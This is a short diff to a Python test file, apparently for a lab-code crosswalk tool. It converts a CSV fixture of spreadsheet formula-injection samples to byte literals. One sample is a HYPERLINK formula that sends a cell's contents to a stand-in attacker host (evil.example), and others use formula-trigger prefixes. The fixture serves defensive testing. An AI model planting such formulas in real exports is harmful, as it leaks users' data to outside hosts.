@@ -112,13 +112,13 @@ def test_events_an_older_crosswalk_wrote_with_secret_hashes_still_verify_and_are
 
 # -- spreadsheet formulas ---------------------------------------------------------------------------
 FORMULA_CSV = (
-    "source_code,source_text,frequency\n"
-    'GLU,"=HYPERLINK(""http://evil.example/?""&A1,""Glucose"")",900\n'
-    'NA,"\t=1+2 sodium serum",800\n'
-    "K,@SUM(A1:A9) potassium serum,780\n"
-    "HBA1C,-2+3 hemoglobin a1c,450\n"
-    "-7,Sodium serum plus,10\n"
-).encode()
+    b"source_code,source_text,frequency\n"
+    b'GLU,"=HYPERLINK(""http://evil.example/?""&A1,""Glucose"")",900\n'
+    b'NA,"\t=1+2 sodium serum",800\n'
+    b"K,@SUM(A1:A9) potassium serum,780\n"
+    b"HBA1C,-2+3 hemoglobin a1c,450\n"
+    b"-7,Sodium serum plus,10\n"
+)
 
 
 @pytest.fixture
